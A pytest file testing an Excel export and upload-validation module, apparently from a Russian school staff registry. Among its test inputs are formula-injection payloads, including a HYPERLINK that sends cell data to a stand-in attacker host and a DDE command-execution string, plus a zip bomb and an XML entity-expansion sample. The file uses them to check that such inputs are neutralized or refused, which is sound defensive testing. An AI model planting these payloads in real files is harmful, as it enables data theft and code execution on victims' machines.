"""apps.core.xlsx: workbooks written for export, and uploads checked before anything reads them."""

import io
import re
import zipfile
from datetime import date, datetime
from pathlib import Path
from urllib.parse import unquote

import openpyxl
import pytest

from apps.core.exceptions import DomainError
from apps.core.xlsx import (
    Column,
    Sheet,
    check_xlsx_upload,
    neutralize,
    read_uploaded_rows,
    write_workbook,
    xlsx_response,
)
from apps.core.xlsx_reader import Formula

from .conftest import read_response, upload, workbook_bytes

DATA = Path(__file__).parent / "data"


@pytest.mark.parametrize(
    "value",
    [
        "=1+2",
        '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+2",
        "\r=1+2",
        "=cmd|' /C calc'!A0",
        "-Иванов",
    ],
)
def test_values_that_could_be_formulas_are_prefixed(value):
    assert neutralize(value) == "'" + value


@pytest.mark.parametrize("value", ["Иванова", "+7 (912) 345-67-89", "-5", "a=b", "", "учитель-логопед"])
def test_harmless_values_are_kept(value):
    assert neutralize(value) == value


def test_formulas_never_reach_the_sheet_as_formulas():
    rows = [("=1+2", "@SUM(A1)", "+cmd|' /C calc'!A0", "-1-HYPERLINK()", "\t=2", "+7 912 345-67-89")]
    data = write_workbook(Sheet("Лист", [Column(f"К{i}") for i in range(6)], rows))
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = next(ws.iter_rows(min_row=2))
    assert all(cell.data_type == "s" for cell in cells)
    assert [cell.value for cell in cells] == [
        "'=1+2",
        "'@SUM(A1)",
        "'+cmd|' /C calc'!A0",
        "'-1-HYPERLINK()",
        "'\t=2",
        "+7 912 345-67-89",
    ]


def test_header_is_bold_frozen_filtered_and_dates_are_real_dates():
    rows = [("Соловьёва Елена Петровна", date(1980, 5, 17), datetime(2026, 9, 1, 9, 30), 12, True)]
    columns = [Column("ФИО", 30), Column("Дата"), Column("Когда"), Column("Стаж", 8), Column("Флаг")]
    ws = openpyxl.load_workbook(io.BytesIO(write_workbook(Sheet("Педагоги", columns, rows)))).active
    assert ws.title == "Педагоги"
    assert [c.value for c in ws[1]] == ["ФИО", "Дата", "Когда", "Стаж", "Флаг"]
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:E2"
    assert ws.column_dimensions["A"].width == 30
    name, born, when, years, flag = (c for c in ws[2])
    assert name.value == "Соловьёва Елена Петровна"
    assert born.is_date and born.value.date() == date(1980, 5, 17)
    assert born.number_format.lower() == "dd.mm.yyyy"
    assert when.is_date and when.value == datetime(2026, 9, 1, 9, 30)
    assert years.value == 12
    assert flag.value == "да"


def test_response_has_a_russian_file_name_in_rfc5987_form():
    response = xlsx_response("Реестр педагогов 25.11.2026.xlsx", Sheet("Лист", [Column("А")], [("б",)]))
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "filename*=UTF-8''" in disposition
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == "Реестр педагогов 25.11.2026.xlsx"
    assert 'filename="Reestr_pedagogov_25.11.2026.xlsx"' in disposition  # transliterated for old clients
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert read_response(response).active["A2"].value == "б"


# Uploads ----------------------------------------------------------------------------------------


def test_a_plain_workbook_is_read_and_trailing_empty_rows_dropped():
    data = workbook_bytes([["Иванова", "Мария"], [None, None]], headers=["Фамилия", "Имя"])
    assert read_uploaded_rows(upload(data)) == [("Фамилия", "Имя"), ("Иванова", "Мария")]


def test_too_big_a_file_is_refused(settings):
    settings.UPLOAD_MAX_BYTES = 1000
    with pytest.raises(DomainError, match="слишком большой"):
        check_xlsx_upload(upload(workbook_bytes([["x"] * 50] * 50)))


@pytest.mark.parametrize("name", ["staff.xls", "staff.csv", "staff.xlsx.exe", "staff"])
def test_a_file_without_the_xlsx_extension_is_refused(name):
    with pytest.raises(DomainError, match=r"\.xlsx"):
        check_xlsx_upload(upload(workbook_bytes([]), name))


def test_a_password_protected_workbook_gives_a_clear_message():
    # A real workbook encrypted by Excel's agile encryption (made with msoffcrypto-tool).
    data = (DATA / "password_protected.xlsx").read_bytes()
    with pytest.raises(DomainError, match="защищена паролем"):
        read_uploaded_rows(upload(data))


def test_an_old_xls_renamed_to_xlsx_is_refused():
    data = bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 2000 + "Workbook".encode("utf-16-le")
    with pytest.raises(DomainError, match="старого формата"):
        read_uploaded_rows(upload(data))


def test_a_csv_renamed_to_xlsx_is_refused():
    with pytest.raises(DomainError, match="не является файлом Excel"):
        read_uploaded_rows(upload("Фамилия;Имя\nИванова;Мария\n".encode()))


def test_an_empty_file_is_refused():
    with pytest.raises(DomainError, match="пустой"):
        read_uploaded_rows(upload(b""))


def test_a_truncated_workbook_is_refused():
    data = workbook_bytes([["Иванова", "Мария"]])
    with pytest.raises(DomainError, match="повреждён"):
        read_uploaded_rows(upload(data[: len(data) // 2]))


def test_a_word_document_renamed_to_xlsx_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    with pytest.raises(DomainError, match="не является файлом Excel"):
        read_uploaded_rows(upload(buffer.getvalue()))


def test_a_workbook_with_broken_xml_inside_is_refused():
    source = zipfile.ZipFile(io.BytesIO(workbook_bytes([["Иванова"]])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename.startswith("xl/worksheets/"):
                content = b"<worksheet><sheetData><row><c r='A1' t='s'><v>oops"
            archive.writestr(item, content)
    with pytest.raises(DomainError, match="поврежд"):
        read_uploaded_rows(upload(buffer.getvalue()))


def test_a_zip_bomb_is_refused_before_it_is_unpacked():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * (50 * 1024 * 1024))
    with pytest.raises(DomainError, match="слишком велик"):
        read_uploaded_rows(upload(buffer.getvalue()))


def test_too_many_rows_are_refused():
    data = workbook_bytes([["Иванова"]] * 30, headers=["Фамилия"])
    with pytest.raises(DomainError, match="больше 20 строк"):
        read_uploaded_rows(upload(data), max_rows=20)


def test_the_reader_gives_what_openpyxl_gives():
    """Shared and inline strings, numbers, booleans, dates (by their number format), gaps, formulas."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Педагоги"
    ws.append(["Фамилия", "Дата", "Стаж", "Да", "Дробь", "Формула"])
    ws.append(["Ёлкина", date(1988, 6, 5), 15, True, 2.5, "=1+1"])
    ws.append([])
    ws.append(["Кузьмина-Караваева", datetime(2020, 1, 2, 8, 30), -3, False, 1e-3, None])
    ws["B4"].number_format = "DD.MM.YYYY HH:MM"
    ws.cell(6, 8, "далеко справа")
    other = wb.create_sheet("Справочники")
    other.append(["не тот лист"])
    buffer = io.BytesIO()
    wb.save(buffer)
    data = buffer.getvalue()

    expected = list(openpyxl.load_workbook(io.BytesIO(data), read_only=True, data_only=True).active.values)
    rows = read_uploaded_rows(upload(data), sheet="Педагоги")
    # One difference, on purpose: a formula whose value the file does not carry (openpyxl writes none) is
    # given as its text, marked as a formula, where openpyxl gives None — so an import can name it.
    assert isinstance(rows[1][5], Formula) and rows[1][5] == "=1+1" and expected[1][5] is None
    rows[1] = (*rows[1][:5], None, *rows[1][6:])
    assert rows == expected
    assert read_uploaded_rows(upload(data), sheet="Справочники") == [("не тот лист",)]


def test_a_workbook_saved_by_libreoffice_is_read():
    data = (DATA / "libreoffice_staff.xlsx").read_bytes()
    rows = read_uploaded_rows(upload(data))
    assert rows[0][:3] == ("Фамилия*", "Имя*", "Отчество")
    assert rows[1][:5] == ("Ёлкина", "Дарья", "Фёдоровна", "ж", datetime(1988, 6, 5))
    assert rows[2] == (None,) * len(rows[0])  # the empty row keeps the numbering
    assert rows[3][0] == "Кузьмина-Караваева"


def test_what_the_writer_writes_the_reader_reads_back():
    rows = [("Соловьёва Елена Петровна", date(1980, 5, 17), 12, 2.5, "строка\nвторая", "=1+2")]
    data = write_workbook(Sheet("Лист", [Column(c) for c in "АБВГДЕ"], rows))
    assert read_uploaded_rows(upload(data)) == [
        tuple("АБВГДЕ"),
        ("Соловьёва Елена Петровна", datetime(1980, 5, 17), 12, 2.5, "строка\nвторая", "'=1+2"),
    ]


def test_control_characters_are_dropped_so_the_file_still_opens():
    data = write_workbook(Sheet("Лист", [Column("А")], [("до\x0bпосле\x00",)]))
    assert openpyxl.load_workbook(io.BytesIO(data)).active["A2"].value == "допосле"


def test_xml_with_a_doctype_is_refused():
    """Entity expansion («billion laughs») and external entities never reach the parser."""
    source = zipfile.ZipFile(io.BytesIO(workbook_bytes([["Иванова"]])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = content.split(b"?>", 1)[-1]  # the declaration, if any, must come first
                content = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>' + content
            archive.writestr(item, content)
    with pytest.raises(DomainError, match="недопустимые конструкции XML"):
        read_uploaded_rows(upload(buffer.getvalue()))


def test_tags_with_a_namespace_prefix_are_read():
    """Some producers write «<x:c>» instead of «<c>»."""
    source = zipfile.ZipFile(io.BytesIO(write_workbook(Sheet("Лист", [Column("Фамилия")], [("Иванова",)]))))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = content.decode().replace("<worksheet xmlns=", "<worksheet xmlns:x=")
                text = re.sub(r"<(/?)(?!\?)([A-Za-z]+)", r"<\1x:\2", text)
                content = text.encode()
            archive.writestr(item, content)
    assert read_uploaded_rows(upload(buffer.getvalue())) == [("Фамилия",), ("Иванова",)]


def test_rows_with_long_wrapped_text_are_made_taller():
    """LibreOffice does not grow a row for wrapped text itself: the writer sets the height."""
    text = "Заполните лист «Педагоги» со второй строки, по одному педагогу в строке. " * 2
    data = write_workbook(
        Sheet("Лист", [Column("Коротко"), Column("Длинно", 40, wrap=True)], [("а", text), ("б", "в")])
    )
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws.row_dimensions[2].height == 60  # about 150 characters in a 40-character column: 4 lines
    assert ws.row_dimensions[3].height is None
    assert ws["B2"].alignment.wrap_text
